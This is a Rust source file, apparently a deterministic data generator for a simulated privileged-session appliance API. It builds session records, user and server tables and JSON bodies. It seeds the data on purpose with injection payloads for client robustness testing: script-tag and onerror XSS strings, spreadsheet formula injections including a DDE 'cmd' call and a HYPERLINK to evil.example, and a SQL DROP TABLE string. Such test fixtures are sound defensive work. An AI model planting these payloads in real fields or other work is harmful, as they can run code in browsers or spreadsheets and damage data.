//! Deterministic data generator.
//!
//! A session is held as a compact [`GenSession`] (about 48 bytes) so that a
//! million fit in memory; its JSON body and its sub-resources (channels,
//! events, alerts, indexing, trail downloads, audit trail bytes) are built on
//! demand from the session's own seed. Session `i` depends only on the global
//! seed, `i` and the time slot it gets, so the same `--seed`, `--sessions` and
//! `--now` always give the same data.
//!
//! Two shapes ([`crate::Compat`]): real SPS 7.x/8.x as recorded in
//! `../shared/real-sps/` (the default: 20-character keys, upper snake case
//! verdicts, UTC times in whole seconds, failed sessions of duration 0), or
//! the 6.0 reference pages' (`--compat 6.0`: exactly the data of before).

use std::collections::HashMap;

use chrono::{DateTime, FixedOffset, TimeZone, Utc};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Map, Value};

use crate::hostile;

/// Protocols in the order of their `u8` code.
pub const PROTOCOLS: &[&str] = &["SSH", "RDP", "TELNET", "VNC", "HTTP", "ICA"];
/// Protocol weights (percent): mostly SSH and RDP.
const PROTOCOL_WEIGHTS: &[u32] = &[45, 25, 5, 5, 12, 8];
/// Default server port per protocol.
const PROTOCOL_PORTS: &[u16] = &[22, 3389, 23, 5900, 443, 1494];

/// Session verdicts as real SPS 7.x/8.x appliances spell them, upper snake
/// case (`ACCEPT`, `AUTH_FAIL`, `FAIL`, `TERMINATED` are recorded; the others
/// are the 6.0 list in the same spelling). Code = position; codes 0 and 1
/// are the accepted sessions.
pub const VERDICTS: &[&str] = &[
    "ACCEPT",
    "TERMINATED",
    "AUTH_FAIL",
    "DENY",
    "FAIL",
    "GW_AUTH_FAIL",
    "KEY_ERROR",
    "USER_MAPPING_FAIL",
];
/// The same verdicts as the 6.0 pages spell them (`--compat 6.0`).
pub const VERDICTS_6_0: &[&str] = &[
    "ACCEPT",
    "ACCEPT-TERMINATED",
    "AUTH-FAIL",
    "DENY",
    "FAIL",
    "GW-AUTH-FAIL",
    "KEY-ERROR",
    "USER-MAPPING-FAIL",
];
/// Verdict weights (per mille) of the 6.0 data: mostly accept.
const VERDICT_WEIGHTS_6_0: &[u32] = &[900, 15, 35, 15, 10, 10, 8, 7];
/// Verdict weights (per mille) of the real data: mostly accept; the recorded
/// failures (`AUTH_FAIL`, `FAIL`, `TERMINATED`) are the common ones.
const VERDICT_WEIGHTS: &[u32] = &[900, 20, 35, 8, 20, 8, 5, 4];

/// Index statuses (documented values, code = position).
pub const INDEX_STATUSES: &[&str] = &[
    "CHANNEL_OPEN",
    "NOT_INDEXED",
    "INDEXING_IN_PROGRESS",
    "INDEXED",
    "INDEXING_NOT_REQUIRED",
    "INDEXING_FAILED",
    "NO_TRAIL",
];
const IDX_CHANNEL_OPEN: u8 = 0;
const IDX_IN_PROGRESS: u8 = 2;
const IDX_INDEXED: u8 = 3;
const IDX_FAILED: u8 = 5;
const IDX_NO_TRAIL: u8 = 6;

/// Analytics tags (bit `i` of [`GenSession::tags`] selects `TAGS[i]`).
pub const TAGS: &[&str] = &[
    "pci",
    "sox",
    "prod",
    "break-glass",
    "vendor",
    "after-hours",
    "contractor",
    "<script>alert('tag')</script>",
    "=HYPERLINK(\"http://evil.example\")",
    "🚨 review",
    "emergency",
    "gdpr",
];

/// Interesting events (bit `i` of [`GenSession::interesting`]); the events
/// generator makes sure each selected one really occurs in the session.
pub const INTERESTING: &[&str] = &[
    "sudo",
    "su",
    "rm",
    "passwd",
    "ssh",
    "systemctl",
    "iptables",
    "useradd",
    "chmod",
    "cmd.exe",
    "powershell.exe",
    "regedit.exe",
    "mmc.exe",
    "scp",
    "curl",
    "<script>alert(1)</script>",
];

const CONN_POLICIES: &[&str] = &[
    "ssh_gateway_auth",
    "prod_ssh",
    "rdp_jump",
    "rdp_windows_servers",
    "telnet_legacy",
    "vnc_kiosk",
    "http_admin_portals",
    "citrix_apps",
    "<svg onload=alert('policy')>",
];
const CHANNEL_POLICIES: &[&str] = &[
    "shell-only",
    "all-channels",
    "no-forwarding",
    "rdp-no-clipboard",
    "read-only-vnc",
    "http-all",
];
const AUTH_METHODS: &[&str] = &[
    "password",
    "publickey",
    "keyboard-interactive",
    "gssapi",
    "x509",
    "none",
];
const SERVER_USERNAMES: &[&str] = &[
    "", // empty = same as gateway user
    "root",
    "Administrator",
    "oracle",
    "postgres",
    "Windows User",
    "deploy",
    "ec2-user",
    "<img src=x onerror=alert('su')>",
    "=cmd|' /C calc'!A0",
];
const NODE_IDS: &[&str] = &[
    "6fed7872-065e-41d2-9cfa-ba75e8cad901",
    "0a1b2c3d-4e5f-4061-8293-a4b5c6d7e8f9",
    "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a",
];

/// Appliance time zone: session times carry this offset (like the reference
/// example's `+05:00`), so that clients must honour offsets.
const APPLIANCE_OFFSET_SECS: i32 = 3600;

const FLAG_ACTIVE: u8 = 1;
const FLAG_TRAIL: u8 = 2;
const FLAG_ARCHIVED: u8 = 4;
const FLAG_SCRIPTED: u8 = 8;
const FLAG_HIDDEN: u8 = 16;
const FLAG_CONTENT_POLICY: u8 = 32;
const FLAG_ACCEPTED_CHANNEL: u8 = 64;
const FLAG_NO_SCORE: u8 = 128;

/// One generated session, compact. Everything else is derived from `seed`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GenSession {
    /// Start, UNIX milliseconds.
    pub start_ms: i64,
    /// Seed of this session's details.
    pub seed: u64,
    /// Duration in seconds (for active sessions: up to "now").
    pub duration: u32,
    /// Index into [`Tables::clients`].
    pub client: u16,
    /// `recording.content_reference_id`.
    pub content_ref: u32,
    /// Index into [`Tables::users`].
    pub user: u16,
    /// Index into [`Tables::servers`].
    pub server: u16,
    /// Client port.
    pub client_port: u16,
    /// Bit set over [`TAGS`].
    pub tags: u16,
    /// Bit set over [`INTERESTING`].
    pub interesting: u16,
    /// Index into [`PROTOCOLS`].
    pub protocol: u8,
    /// Index into [`VERDICTS`].
    pub verdict: u8,
    /// Index into [`INDEX_STATUSES`].
    pub index_status: u8,
    /// Flag bits (active, trail, archived, ...).
    pub flags: u8,
    /// Risk score 0..=100.
    pub score: u8,
    /// Index into the server-username table (0 = same as gateway user).
    pub server_user: u8,
    /// Index into the connection policies.
    pub conn_policy: u8,
    /// Index into the channel policies.
    pub channel_policy: u8,
    /// Index into the auth methods.
    pub auth_method: u8,
    /// Document revision.
    pub revision: u8,
    /// Seconds between start and document creation.
    pub creation_delay: u16,
}

/// A server of the generated estate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Server {
    /// Host name.
    pub name: String,
    /// IPv4 address, dotted.
    pub ip: String,
}

/// Shared tables the compact sessions index into. Values a query reads are
/// held here once, so that field lookups borrow instead of allocating.
#[derive(Debug, Clone)]
pub struct Tables {
    /// Gateway user names (about 200, some hostile).
    pub users: Vec<String>,
    /// `user.id` of each user.
    pub user_ids: Vec<String>,
    /// Servers (about 150).
    pub servers: Vec<Server>,
    /// Client workstation addresses.
    pub clients: Vec<String>,
    /// Connection policy keys, per connection policy.
    pub policy_ids: Vec<String>,
    /// Tag lists by bit set (only the sets that occur).
    pub tag_sets: HashMap<u16, Vec<String>>,
    /// Interesting-event lists by bit set (only the sets that occur).
    pub interesting_sets: HashMap<u16, Vec<String>>,
}

/// A generated data set: tables, sessions in start-time order, their keys.
#[derive(Debug)]
pub struct Generated {
    /// Shared tables.
    pub tables: Tables,
    /// Sessions, oldest first.
    pub sessions: Vec<GenSession>,
    /// Keys, [`Generated::key_len`] ASCII characters each, concatenated (one
    /// allocation for all).
    pub keys: String,
    /// Length of every key: [`KEY_LEN`], or [`KEY_LEN_6_0`] for the 6.0 data.
    pub key_len: usize,
    /// "Now" of the data set, UNIX milliseconds.
    pub now_ms: i64,
    /// Real 7.x/8.x shapes (else the 6.0 pages').
    pub real: bool,
}

/// Length of a generated key: 20, as Elasticsearch document ids (recorded).
pub const KEY_LEN: usize = 20;
/// Length of a key of the 6.0 data (22 base62 characters).
pub const KEY_LEN_6_0: usize = 22;
/// The characters of Elasticsearch ids (URL-safe base64): keys may start with `_`.
const KEY_CHARS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const BASE62: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
/// `recording.content_reference_id` of the real data: a few values that
/// repeat across sessions (recorded: 4231 in every session), one per
/// connection policy.
const CONTENT_REFERENCE_IDS: &[u32] = &[4231, 4231, 4398, 4398, 5120, 5121, 6002, 6010, 4231];

/// SplitMix64 step: decorrelates seeds derived from small integers.
fn mix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

fn weighted(rng: &mut ChaCha8Rng, weights: &[u32]) -> usize {
    let total: u32 = weights.iter().sum();
    let mut x = rng.gen_range(0..total.max(1));
    for (i, w) in weights.iter().enumerate() {
        if x < *w {
            return i;
        }
        x -= w;
    }
    0
}

fn build_tables(seed: u64) -> Tables {
    let mut rng = ChaCha8Rng::seed_from_u64(mix(seed ^ 0x7AB1E5));
    let first = [
        "anna", "bela", "csaba", "david", "eva", "ferenc", "gabor", "hanna", "istvan", "judit",
        "kata", "laszlo", "maria", "noemi", "oliver", "peter", "rita", "sandor", "tamas", "zsofia",
        "john", "jane", "mike", "sarah", "li", "wei", "fatima", "omar", "yuki", "sven",
    ];
    let last = [
        "smith", "kovacs", "nagy", "toth", "szabo", "horvath", "garcia", "mueller", "rossi",
        "chen", "wang", "kim", "ali", "jensen", "novak", "tanaka",
    ];
    let mut users: Vec<String> = [
        "<b>bob</b>",
        "<script>alert('user')</script>",
        "<img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)",
        "-2+3",
        "אבי כהן",
        "محمد",
        "👩‍💻dev",
        "Robert'); DROP TABLE sessions;--",
        "root",
        "svc_backup",
        "svc_ansible",
        "Administrator",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    while users.len() < 200 {
        let f = first[rng.gen_range(0..first.len())];
        let l = last[rng.gen_range(0..last.len())];
        let name = match rng.gen_range(0..3) {
            0 => format!("{f}.{l}"),
            1 => format!("{}{l}", &f[..1]),
            _ => format!("{f}_{l}{}", rng.gen_range(1..99)),
        };
        if !users.contains(&name) {
            users.push(name);
        }
    }
    let roles = [
        "db", "web", "app", "dc", "jump", "fs", "mail", "k8s", "log", "erp",
    ];
    let envs = ["prod", "stage", "dev", "dmz"];
    let mut servers = vec![
        Server {
            name: "<img src=x onerror=alert('srv')>.evil.example".into(),
            ip: "10.66.6.6".into(),
        },
        Server {
            name: "\"><svg onload=alert(1)>".into(),
            ip: "10.66.6.7".into(),
        },
    ];
    while servers.len() < 150 {
        let e = rng.gen_range(0..envs.len());
        let name = format!(
            "{}-{:02}.{}.example.com",
            roles[rng.gen_range(0..roles.len())],
            rng.gen_range(1..40),
            envs[e]
        );
        if servers.iter().any(|s| s.name == name) {
            continue;
        }
        let ip = format!(
            "10.{}.{}.{}",
            e + 1,
            rng.gen_range(0..=255),
            rng.gen_range(1..=254)
        );
        servers.push(Server { name, ip });
    }
    let clients = (0..2000)
        .map(|_| {
            format!(
                "172.16.{}.{}",
                rng.gen_range(0..=255),
                rng.gen_range(1..=254)
            )
        })
        .collect();
    let user_ids = (0..users.len()).map(|i| format!("uid-{i}")).collect();
    let policy_ids = (0..CONN_POLICIES.len() as u64)
        .map(|i| format!("{:016x}{:07x}", mix(i + 17), i))
        .collect();
    Tables {
        users,
        user_ids,
        servers,
        clients,
        policy_ids,
        tag_sets: HashMap::new(),
        interesting_sets: HashMap::new(),
    }
}

fn bit_list(mask: u16, names: &[&str]) -> Vec<String> {
    names
        .iter()
        .enumerate()
        .filter(|(i, _)| mask & (1 << i) != 0)
        .map(|(_, t)| (*t).to_owned())
        .collect()
}

/// Generates `n` sessions spread over the 90 days before `now`, oldest
/// first, in the real 7.x/8.x shapes.
pub fn generate(seed: u64, n: usize, now: DateTime<Utc>) -> Generated {
    generate_for(seed, n, now, crate::Compat::Real)
}

/// Generates `n` sessions in the shapes of `compat`. The 6.0 data is exactly
/// what the simulator generated before real shapes were the default.
pub fn generate_for(seed: u64, n: usize, now: DateTime<Utc>, compat: crate::Compat) -> Generated {
    let real = !compat.is_6_0();
    let key_len = if real { KEY_LEN } else { KEY_LEN_6_0 };
    let mut tables = build_tables(seed);
    let now_ms = now.timestamp_millis();
    let span_ms: i64 = 90 * 24 * 3600 * 1000;
    let base = now_ms - span_ms;
    // Equal time slots with jitter keep the list sorted without a sort pass.
    let slot = (span_ms / n.max(1) as i64).max(1);
    let mut sessions = Vec::with_capacity(n);
    let mut keys = String::with_capacity(n * key_len);
    let active_from = n - n / 100; // the newest ~1% may be active
    for i in 0..n {
        let sseed = mix(seed.wrapping_mul(0x1000_0000_01B3) ^ mix(i as u64));
        let mut rng = ChaCha8Rng::seed_from_u64(sseed);
        let alphabet = if real { KEY_CHARS } else { BASE62 };
        for _ in 0..key_len {
            keys.push(char::from(alphabet[rng.gen_range(0..alphabet.len())]));
        }
        let mut start_ms = base + i as i64 * slot + rng.gen_range(0..slot);
        if real {
            // Recorded times are whole seconds (`…:28.000Z`). Rounding down
            // keeps the sessions in start-time order.
            start_ms -= start_ms.rem_euclid(1000);
        }
        let protocol = weighted(&mut rng, PROTOCOL_WEIGHTS) as u8;
        let verdict = weighted(
            &mut rng,
            if real {
                VERDICT_WEIGHTS
            } else {
                VERDICT_WEIGHTS_6_0
            },
        ) as u8;
        let accepted = verdict <= 1;
        let active = accepted && i >= active_from && rng.gen_bool(0.9);
        let remaining_s = ((now_ms - start_ms) / 1000).max(0) as u32;
        let mut duration: u32 = if !accepted {
            let d = rng.gen_range(0..5);
            // Recorded: a failed session lasts 0 seconds (and ends when it starts).
            if real {
                0
            } else {
                d
            }
        } else {
            match rng.gen_range(0..100) {
                0..=19 => rng.gen_range(1..60),
                20..=69 => rng.gen_range(60..1800),
                70..=94 => rng.gen_range(1800..14_400),
                _ => rng.gen_range(14_400..43_200),
            }
        };
        if active || duration > remaining_s {
            duration = remaining_s;
        }
        let has_trail = accepted && rng.gen_ratio(93, 100);
        let index_status = if !has_trail {
            IDX_NO_TRAIL
        } else if active {
            IDX_CHANNEL_OPEN
        } else {
            match rng.gen_range(0..100) {
                0..=79 => IDX_INDEXED,
                80..=84 => 1,
                85..=89 => IDX_IN_PROGRESS,
                90..=94 => 4,
                _ => IDX_FAILED,
            }
        };
        let mut flags = 0u8;
        if active {
            flags |= FLAG_ACTIVE;
        }
        if has_trail {
            flags |= FLAG_TRAIL;
            if !active && rng.gen_ratio(1, 5) {
                flags |= FLAG_ARCHIVED;
            }
        }
        if rng.gen_ratio(1, 20) {
            flags |= FLAG_SCRIPTED;
        }
        if rng.gen_ratio(1, 200) {
            flags |= FLAG_HIDDEN;
        }
        if accepted && rng.gen_ratio(3, 10) {
            flags |= FLAG_CONTENT_POLICY;
        }
        if accepted {
            flags |= FLAG_ACCEPTED_CHANNEL;
        }
        if rng.gen_ratio(1, 10) {
            flags |= FLAG_NO_SCORE;
        }
        // Sparse tags: most sessions none, some one or two.
        let mut tags = 0u16;
        for _ in 0..rng.gen_range(0..3).min(rng.gen_range(0..3)) {
            tags |= 1 << rng.gen_range(0..TAGS.len());
        }
        let mut interesting = 0u16;
        if accepted && has_trail {
            for _ in 0..rng.gen_range(0..4) {
                interesting |= 1 << interesting_for(protocol, &mut rng);
            }
        }
        let score = {
            let x: f64 = rng.gen();
            (x * x * 100.0).round() as u8
        };
        let conn_policy = if rng.gen_ratio(1, 100) {
            8
        } else {
            policy_for(protocol, &mut rng)
        };
        sessions.push(GenSession {
            start_ms,
            // The real data's end times carry no milliseconds: `end_ms` adds
            // `seed % 1000`, so the real seed is a multiple of 1000.
            seed: if real { sseed - sseed % 1000 } else { sseed },
            duration,
            client: rng.gen_range(0..tables.clients.len()) as u16,
            content_ref: if real {
                CONTENT_REFERENCE_IDS[usize::from(conn_policy) % CONTENT_REFERENCE_IDS.len()]
            } else {
                i as u32 + 1
            },
            user: rng.gen_range(0..tables.users.len()) as u16,
            server: rng.gen_range(0..tables.servers.len()) as u16,
            client_port: rng.gen_range(32_768..=65_535),
            tags,
            interesting,
            protocol,
            verdict,
            index_status,
            flags,
            score,
            server_user: if rng.gen_bool(0.5) {
                0
            } else {
                rng.gen_range(1..SERVER_USERNAMES.len()) as u8
            },
            conn_policy,
            channel_policy: rng.gen_range(0..CHANNEL_POLICIES.len()) as u8,
            auth_method: if protocol == 0 {
                rng.gen_range(0..4)
            } else {
                rng.gen_range(0..AUTH_METHODS.len()) as u8
            },
            revision: rng.gen_range(1..20),
            creation_delay: match rng.gen_ratio(1, 10) {
                // Recorded: `creation_time` equals `start_time`.
                _ if real => 0,
                true => rng.gen_range(1..3600),
                false => 0,
            },
        });
    }
    for s in &sessions {
        tables
            .tag_sets
            .entry(s.tags)
            .or_insert_with(|| bit_list(s.tags, TAGS));
        tables
            .interesting_sets
            .entry(s.interesting)
            .or_insert_with(|| bit_list(s.interesting, INTERESTING));
    }
    Generated {
        tables,
        sessions,
        keys,
        key_len,
        now_ms,
        real,
    }
}

fn interesting_for(protocol: u8, rng: &mut ChaCha8Rng) -> usize {
    match protocol {
        1 | 3 | 5 => [9, 10, 11, 12, 15][rng.gen_range(0..5)],
        4 => [14, 15][rng.gen_range(0..2)],
        _ => [0, 1, 2, 3, 4, 5, 6, 7, 8, 13, 14, 15][rng.gen_range(0..12)],
    }
}

fn policy_for(protocol: u8, rng: &mut ChaCha8Rng) -> u8 {
    match protocol {
        0 => rng.gen_range(0..2),
        1 => rng.gen_range(2..4),
        2 => 4,
        3 => 5,
        4 => 6,
        _ => 7,
    }
}

fn offset() -> FixedOffset {
    // 3600 is a valid offset; east_opt only fails past ±24h.
    FixedOffset::east_opt(APPLIANCE_OFFSET_SECS).unwrap_or_else(|| chrono::Offset::fix(&Utc))
}

/// ISO 8601 with milliseconds and the appliance's offset, as SPS writes session times.
pub fn iso_local(ms: i64) -> String {
    match offset().timestamp_millis_opt(ms).single() {
        Some(t) => t.format("%Y-%m-%dT%H:%M:%S%.3f%:z").to_string(),
        None => String::new(),
    }
}

/// ISO 8601 with milliseconds and `Z` (like `creation_time`).
pub fn iso_utc(ms: i64) -> String {
    match Utc.timestamp_millis_opt(ms).single() {
        Some(t) => t.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string(),
        None => String::new(),
    }
}

/// ISO 8601 without an offset, microseconds (like event and alert `time`); UTC.
pub fn iso_naive(ms: i64, micros: u32) -> String {
    match Utc.timestamp_millis_opt(ms).single() {
        Some(t) => format!("{}{:03}", t.format("%Y-%m-%dT%H:%M:%S%.3f"), micros % 1000),
        None => String::new(),
    }
}

impl GenSession {
    /// Whether the session is ongoing.
    pub fn active(&self) -> bool {
        self.flags & FLAG_ACTIVE != 0
    }
    /// Whether the session has an audit trail.
    pub fn has_trail(&self) -> bool {
        self.flags & FLAG_TRAIL != 0
    }
    /// Whether the trail is archived.
    pub fn archived(&self) -> bool {
        self.flags & FLAG_ARCHIVED != 0
    }
    /// End, UNIX milliseconds (None while active).
    pub fn end_ms(&self) -> Option<i64> {
        if self.active() {
            None
        } else {
            Some(self.start_ms + i64::from(self.duration) * 1000 + (self.seed % 1000) as i64)
        }
    }
    /// Protocol name.
    pub fn protocol_name(&self) -> &'static str {
        PROTOCOLS[usize::from(self.protocol) % PROTOCOLS.len()]
    }
    /// Verdict: real (`AUTH_FAIL`) or 6.0 (`AUTH-FAIL`) spelling.
    pub fn verdict_name(&self, real: bool) -> &'static str {
        let names = if real { VERDICTS } else { VERDICTS_6_0 };
        names[usize::from(self.verdict) % names.len()]
    }
    /// Whether the session was accepted (`ACCEPT` or `TERMINATED`).
    pub fn accepted(&self) -> bool {
        self.verdict <= 1
    }
    /// A number of this session's own, for choices of the real data that the
    /// 6.0 data does not make (so that they change nothing there).
    fn pick(&self, salt: u64) -> u64 {
        mix(self.seed ^ salt)
    }
    /// Whether the real body has `user.gateway_username` beside `user.name`
    /// (a third of the sessions; the recorded ones have only `user.name`).
    pub fn has_gateway_username_key(&self) -> bool {
        self.pick(0x6A7E).is_multiple_of(3)
    }
    /// Whether the real body has an SPP `vault` block (about one in ten).
    pub fn has_vault(&self) -> bool {
        self.pick(0x5A17).is_multiple_of(10)
    }
    /// Index status.
    pub fn index_status_name(&self) -> &'static str {
        INDEX_STATUSES[usize::from(self.index_status) % INDEX_STATUSES.len()]
    }
    /// Whether events were extracted (indexing done or partly done).
    pub fn indexed(&self) -> bool {
        matches!(
            self.index_status,
            IDX_INDEXED | IDX_IN_PROGRESS | IDX_FAILED
        )
    }
    /// Terminal protocols have commands, graphical ones window titles.
    pub fn is_terminal(&self) -> bool {
        matches!(self.protocol, 0 | 2)
    }
    /// Risk score, if analytics scored the session.
    pub fn score(&self) -> Option<u8> {
        (self.flags & FLAG_NO_SCORE == 0).then_some(self.score)
    }
    /// Whether alerts were stored (a content policy with "store in database").
    pub fn has_content_policy(&self) -> bool {
        self.flags & FLAG_CONTENT_POLICY != 0
    }
    /// Connection policy name.
    pub fn connection_policy(&self) -> &'static str {
        CONN_POLICIES[usize::from(self.conn_policy) % CONN_POLICIES.len()]
    }
    /// Channel policy name.
    pub fn channel_policy(&self) -> &'static str {
        CHANNEL_POLICIES[usize::from(self.channel_policy) % CHANNEL_POLICIES.len()]
    }
    /// Authentication method.
    pub fn auth_method(&self) -> &'static str {
        AUTH_METHODS[usize::from(self.auth_method) % AUTH_METHODS.len()]
    }
    /// Client address, dotted.
    pub fn client_ip<'t>(&self, t: &'t Tables) -> &'t str {
        t.clients
            .get(usize::from(self.client))
            .map(String::as_str)
            .unwrap_or("")
    }
    /// Server port.
    pub fn server_port(&self) -> u16 {
        PROTOCOL_PORTS[usize::from(self.protocol) % PROTOCOL_PORTS.len()]
    }
    /// Tags, in table order.
    pub fn tags(&self) -> impl Iterator<Item = &'static str> + '_ {
        TAGS.iter()
            .enumerate()
            .filter(|(i, _)| self.tags & (1 << i) != 0)
            .map(|(_, t)| *t)
    }
    /// Interesting events, in table order.
    pub fn interesting(&self) -> impl Iterator<Item = &'static str> + '_ {
        INTERESTING
            .iter()
            .enumerate()
            .filter(|(i, _)| self.interesting & (1 << i) != 0)
            .map(|(_, t)| *t)
    }
    /// Gateway user name.
    pub fn gateway_username<'t>(&self, t: &'t Tables) -> &'t str {
        t.users
            .get(usize::from(self.user))
            .map(String::as_str)
            .unwrap_or("")
    }
    /// User name on the server.
    pub fn server_username<'t>(&self, t: &'t Tables) -> &'t str {
        match SERVER_USERNAMES.get(usize::from(self.server_user)) {
            Some(s) if !s.is_empty() => s,
            _ => self.gateway_username(t),
        }
    }
    /// The server.
    pub fn server<'t>(&self, t: &'t Tables) -> Option<&'t Server> {
        t.servers.get(usize::from(self.server))
    }
    /// `recording.session_id`: real, `svc/<22 characters>/<policy>` with a
    /// hash unrelated to the key (recorded); 6.0, the documented
    /// `svc/<key>/<policy>:<n>`.
    pub fn recording_session_id(&self, key: &str, real: bool) -> String {
        if !real {
            return format!(
                "svc/{key}/{}:{}",
                self.connection_policy(),
                self.content_ref
            );
        }
        let mut z = self.pick(0x5E55);
        let id: String = (0..22)
            .map(|_| {
                z = mix(z);
                char::from(BASE62[(z % BASE62.len() as u64) as usize])
            })
            .collect();
        format!("svc/{id}/{}", self.connection_policy().replace('-', "_"))
    }
    /// `user.id`: the user name in the real data (recorded), `uid-<n>` in the 6.0 data.
    pub fn user_id_for<'t>(&self, t: &'t Tables, real: bool) -> &'t str {
        if real {
            self.gateway_username(t)
        } else {
            self.user_id(t)
        }
    }
    /// Connection policy key.
    pub fn connection_policy_id<'t>(&self, t: &'t Tables) -> &'t str {
        t.policy_ids
            .get(usize::from(self.conn_policy))
            .map(String::as_str)
            .unwrap_or("")
    }
    /// `user.id`.
    pub fn user_id<'t>(&self, t: &'t Tables) -> &'t str {
        t.user_ids
            .get(usize::from(self.user))
            .map(String::as_str)
            .unwrap_or("")
    }
    /// Client-visible SPS address.
    fn server_local(&self) -> Value {
        json!({ "ip": "10.0.0.2", "name": "sps.example.com", "port": self.server_port() })
    }

    /// The full JSON body (of a single-session GET): the real 7.x/8.x
    /// shapes, as the recorded `fields=*` items
    /// (`../shared/real-sps/powerbi-list-page-offset-0.e0ad361.json`) plus
    /// what a list item lacks and a single-session GET is guessed to have:
    /// the sub-resource links, `hidden`, `phantom`, `revision`,
    /// `recording.audit_trail`, `server_local`, `target`,
    /// `has_accepted_channel` and `analytics.scripted_results` (no single GET
    /// is recorded; [`list_item_body`] takes those away again). With `real`
    /// false, the 6.0 reference example's shapes (`--compat 6.0`).
    pub fn body(&self, key: &str, t: &Tables, real: bool) -> Value {
        let base = sps_core::request::session_path(key);
        let link = |s: &str| json!({ "href": format!("{base}/{s}") });
        let (server_name, server_ip) = match self.server(t) {
            Some(s) => (s.name.as_str(), s.ip.as_str()),
            None => ("", ""),
        };
        let client_ip = self.client_ip(t);
        let mut analytics = Map::new();
        analytics.insert(
            "interesting_events".into(),
            self.interesting().collect::<Vec<_>>().into(),
        );
        analytics.insert(
            "scripted".into(),
            Value::Bool(self.flags & FLAG_SCRIPTED != 0),
        );
        analytics.insert("scripted_results".into(), self.scripted_results());
        analytics.insert("similar_sessions".into(), json!([]));
        analytics.insert("tags".into(), self.tags().collect::<Vec<_>>().into());
        if let Some(score) = self.score() {
            let score = if real {
                // Recorded: only the aggregate, no `details`.
                json!({ "aggregated": score })
            } else {
                json!({ "aggregated": score, "details": { "fis": { "score": score } } })
            };
            analytics.insert("score".into(), score);
        }
        let mut recording = Map::new();
        recording.insert("archived".into(), Value::Bool(self.archived()));
        if let Some(trail) = self.audit_trail_json(&base) {
            recording.insert("audit_trail".into(), trail);
        }
        recording.insert("auth_method".into(), self.auth_method().into());
        recording.insert("channel_policy".into(), self.channel_policy().into());
        recording.insert(
            "command_extracted".into(),
            Value::Bool(self.is_terminal() && self.indexed()),
        );
        recording.insert("connection_policy".into(), self.connection_policy().into());
        recording.insert(
            "connection_policy_id".into(),
            self.connection_policy_id(t).into(),
        );
        recording.insert("content_reference_id".into(), self.content_ref.into());
        recording.insert(
            "has_accepted_channel".into(),
            Value::Bool(self.flags & FLAG_ACCEPTED_CHANNEL != 0),
        );
        recording.insert("index_status".into(), self.index_status_name().into());
        recording.insert("server_local".into(), self.server_local());
        recording.insert(
            "session_id".into(),
            self.recording_session_id(key, real).into(),
        );
        recording.insert(
            "target".into(),
            json!({ "ip": server_ip, "name": server_ip, "port": self.server_port() }),
        );
        recording.insert("verdict".into(), self.verdict_name(real).into());
        recording.insert(
            "window_title_extracted".into(),
            Value::Bool(self.window_title_extracted()),
        );
        let gw = self.gateway_username(t);
        let mut user = Map::new();
        if !real || self.has_gateway_username_key() {
            user.insert("gateway_username".into(), gw.into());
        }
        user.insert("id".into(), self.user_id_for(t, real).into());
        user.insert("name".into(), gw.into());
        let server_username = self.server_username(t);
        user.insert(
            "server_username".into(),
            if real {
                json!([server_username])
            } else {
                server_username.into()
            },
        );
        // Real: UTC, `creation_time` = `start_time`; 6.0: the zone's offset.
        let (creation_time, start_time, end_time) = if real {
            let start = iso_utc(self.start_ms);
            (start.clone(), start, self.end_ms().map(iso_utc))
        } else {
            (
                iso_utc(self.start_ms + i64::from(self.creation_delay) * 1000),
                iso_local(self.start_ms),
                self.end_ms().map(iso_local),
            )
        };
        let mut server =
            json!({ "ip": server_ip, "name": server_name, "port": self.server_port() });
        let mut body = json!({
            "active": self.active(),
            "alerts": link("alerts"),
            "analytics": Value::Object(analytics),
            "channels": link("channels"),
            "client": { "ip": client_ip, "name": client_ip, "port": self.client_port },
            "creation_time": creation_time,
            "duration": self.duration,
            "end_time": end_time,
            "events": link("events"),
            "hidden": self.flags & FLAG_HIDDEN != 0,
            "indexing": link("indexing"),
            "node_id": NODE_IDS[(self.seed % NODE_IDS.len() as u64) as usize],
            "origin": "RECORDING",
            "phantom": false,
            "protocol": self.protocol_name(),
            "recording": Value::Object(recording),
            "revision": self.revision,
            "start_time": start_time,
            "trail_downloads": link("trail_downloads"),
            "user": Value::Object(user),
            "verdict": self.verdict_name(real),
        });
        if real {
            server["id"] = server_ip.into();
        }
        if let Value::Object(map) = &mut body {
            map.insert("server".into(), server);
            if real {
                // Recorded: present and null in every session (trails or not).
                map.insert("trail_download_link".into(), Value::Null);
                if self.has_vault() {
                    map.insert("vault".into(), self.vault(t));
                }
            }
        }
        body
    }

    /// An SPP access request, in the shape of
    /// `../shared/real-sps/powerbi-session-item-with-vault.60ef0e1.json`.
    fn vault(&self, t: &Tables) -> Value {
        let requested = self.start_ms - 60_000 - (self.pick(0xA1) % 600) as i64 * 1000;
        json!({
            "access_request_type": if self.is_terminal() { "SSH" } else { "REMOTEDESKTOP" },
            "account_id": 10 + self.pick(0xA2) % 40,
            "account_name": self.server_username(t),
            "appliance_id": "5f95b795a96e4cfc9114f1f0b0eb1c91",
            "appliance_name": "SPP-1",
            "asset_partition_id": -1,
            "asset_partition_name": "Macrocosm",
            "auto_approved": iso_utc(requested),
            "available": iso_utc(requested + 4),
            "broker_id": 0,
            "created": {
                "timestamp": iso_utc(requested),
                "user": {
                    "client_ip_address": self.client_ip(t),
                    "user_display_name": self.gateway_username(t),
                    "user_id": 8 + self.pick(0xA3) % 200,
                    "user_name": self.gateway_username(t),
                },
            },
            "expired": iso_utc(requested + 3_600_000),
            "is_emergency": self.pick(0xA4).is_multiple_of(50),
            "offline_workflow": false,
